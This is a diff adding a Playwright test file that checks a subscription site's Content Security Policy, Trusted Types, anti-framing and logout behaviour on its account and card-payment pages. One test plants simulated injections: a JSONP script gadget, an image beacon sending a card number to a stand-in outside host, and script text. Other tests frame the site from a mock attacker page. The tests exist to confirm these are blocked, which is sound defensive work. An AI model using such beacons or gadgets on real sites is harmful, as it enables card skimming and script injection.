@@ -1,0 +1,173 @@
+/** What may run on account pages, and what may leave them, in a real browser with the real card SDK (T38). */
+import type { Page } from '@playwright/test';
+import { ACCOUNT_PATHS } from '../../src/domain/paths.ts';
+import { expect, test } from './fixtures.ts';
+import { agree, fillCard, GATED, payButton, toPayment } from './reader.ts';
+
+/** What the browser has refused on this page since it was loaded. */
+const refused = ( page: Page ): Promise< string[] > =>
+	page.evaluate( () => ( window as never as { refused: string[] } ).refused );
+
+const ruleOf = ( line: string ) => line.split( ' ' )[ 0 ];
+
+const watch = ( page: Page ) =>
+	page.addInitScript( () => {
+		const list: string[] = [];
+		Object.assign( window, { refused: list } );
+		document.addEventListener( 'securitypolicyviolation', ( event ) =>
+			list.push( `${ event.effectiveDirective } ${ event.blockedURI }` )
+		);
+	} );
+
+test( 'no account page asks for what its policy forbids', async ( {
+	page,
+	enter,
+} ) => {
+	await watch( page );
+	await enter( 'monthly' );
+	for ( const path of Object.values( ACCOUNT_PATHS ) ) {
+		await page.goto( path );
+		await expect( page.getByRole( 'heading', { level: 1 } ) ).toBeVisible();
+		expect( await refused( page ), path ).toEqual( [] );
+	}
+} );
+
+test( 'a card is typed and pays under the same policy', async ( {
+	page,
+	enter,
+} ) => {
+	await watch( page );
+	await enter( 'member' );
+	await toPayment( page );
+	await fillCard( page );
+	await agree( page );
+	await payButton( page ).click();
+	await expect(
+		page.getByRole( 'heading', { name: 'You are a member' } )
+	).toBeVisible();
+	expect( await refused( page ) ).toEqual( [] );
+} );
+
+test( 'a planted script of the site’s JSONP, a script that is text, and a picture of another host are refused', async ( {
+	page,
+	silence,
+} ) => {
+	silence.allow( /Content Security Policy|TrustedScript|TrustedHTML/i );
+	await watch( page );
+	await page.goto( '/account/login' );
+	await expect( page.getByLabel( 'Email' ) ).toBeVisible();
+	await page.evaluate( () => {
+		const ran = () => Object.assign( window, { planted: true } );
+		Object.assign( window, { ran } );
+		// As an injection into the HTML would stand there.
+		const other = document.implementation.createHTMLDocument();
+		const script = other.createElement( 'script' );
+		script.setAttribute( 'src', '/wp-json/?_jsonp=ran' );
+		document.body.append( document.importNode( script, true ) );
+		const picture = new Image();
+		picture.src = 'https://away.example/?card=4111';
+		document.body.append( picture );
+		try {
+			document.body.insertAdjacentHTML( 'beforeend', '<b>markup</b>' );
+		} catch {}
+		try {
+			document.createElement( 'script' ).text = 'ran()';
+		} catch {}
+	} );
+	await expect
+		.poll( async () => ( await refused( page ) ).map( ruleOf ).sort() )
+		.toEqual(
+			expect.arrayContaining( [ 'img-src', 'require-trusted-types-for' ] )
+		);
+	expect(
+		( await refused( page ) ).some( ( line ) =>
+			/^(script-src|require-trusted)/.test( line )
+		)
+	).toBe( true );
+	expect( await page.evaluate( () => 'planted' in window ) ).toBe( false );
+	await expect( page.locator( 'b', { hasText: 'markup' } ) ).toHaveCount( 0 );
+} );
+
+/** The page of an attacker, around a story. */
+const around = ( address: string ) =>
+	`<iframe id="story" src="${ address }" width="800" height="600"></iframe>`;
+
+test( 'a members-only story does not show in a frame of another site', async ( {
+	page,
+	baseURL,
+	silence,
+} ) => {
+	silence.allow( /frame-ancestors|Refused to (frame|display)|Framing/i );
+	await page.route( 'http://attacker.localhost/**', ( route ) =>
+		route.fulfill( {
+			contentType: 'text/html',
+			body: around( `${ baseURL }${ GATED }` ),
+		} )
+	);
+	await page.goto( 'http://attacker.localhost/' );
+	await expect(
+		page.frameLocator( '#story' ).getByRole( 'article' )
+	).toHaveCount( 0 );
+	await expect(
+		page.frameLocator( '#story' ).locator( '[data-circ-gate]' )
+	).toHaveCount( 0 );
+} );
+
+test( 'an open story in a frame of another site opens no log-in in place: a press leads to the account page in the whole window', async ( {
+	page,
+	baseURL,
+} ) => {
+	await page.route( 'http://attacker.localhost/**', ( route ) =>
+		route.fulfill( {
+			contentType: 'text/html',
+			body: around( `${ baseURL }/` ),
+		} )
+	);
+	await page.goto( 'http://attacker.localhost/' );
+	const story = page.frameLocator( '#story' );
+	await expect( story.locator( '[data-circ-login]' ).first() ).toBeVisible();
+	await story.locator( '[data-circ-login]' ).first().click();
+	await expect( page ).toHaveURL( `${ baseURL }/account/login` );
+	await expect( page.getByLabel( 'Email' ) ).toBeVisible();
+} );
+
+test( 'with blocked storage a second tab shows logged-out when it is looked at', async ( {
+	context,
+	page,
+	enter,
+} ) => {
+	await context.addInitScript( () => {
+		for ( const name of [ 'localStorage', 'sessionStorage' ] ) {
+			Object.defineProperty( window, name, {
+				get() {
+					throw new DOMException( 'blocked', 'SecurityError' );
+				},
+			} );
+		}
+	} );
+	await enter( 'monthly' );
+	await page.goto( '/account/settings' );
+	await expect( page.getByRole( 'heading', { level: 1 } ) ).toHaveText(
+		'Profile'
+	);
+	const other = await context.newPage();
+	await other.goto( '/account/settings' );
+	await expect( other.getByRole( 'heading', { level: 1 } ) ).toHaveText(
+		'Profile'
+	);
+	await other
+		.getByRole( 'banner' )
+		.getByRole( 'button', { name: 'Account' } )
+		.click();
+	await other.getByRole( 'button', { name: 'Log Out' } ).click();
+	await expect( other ).toHaveURL( /\/account\/login/ );
+	await page.bringToFront();
+	// Headless tabs are all of them visible: what the browser tells a tab that is looked at.
+	await page.evaluate( () =>
+		document.dispatchEvent(
+			new Event( 'visibilitychange', { bubbles: true } )
+		)
+	);
+	await expect( page ).toHaveURL( /\/account\/login/ );
+	await expect( page.getByText( '@readers.example' ) ).toHaveCount( 0 );
+} );
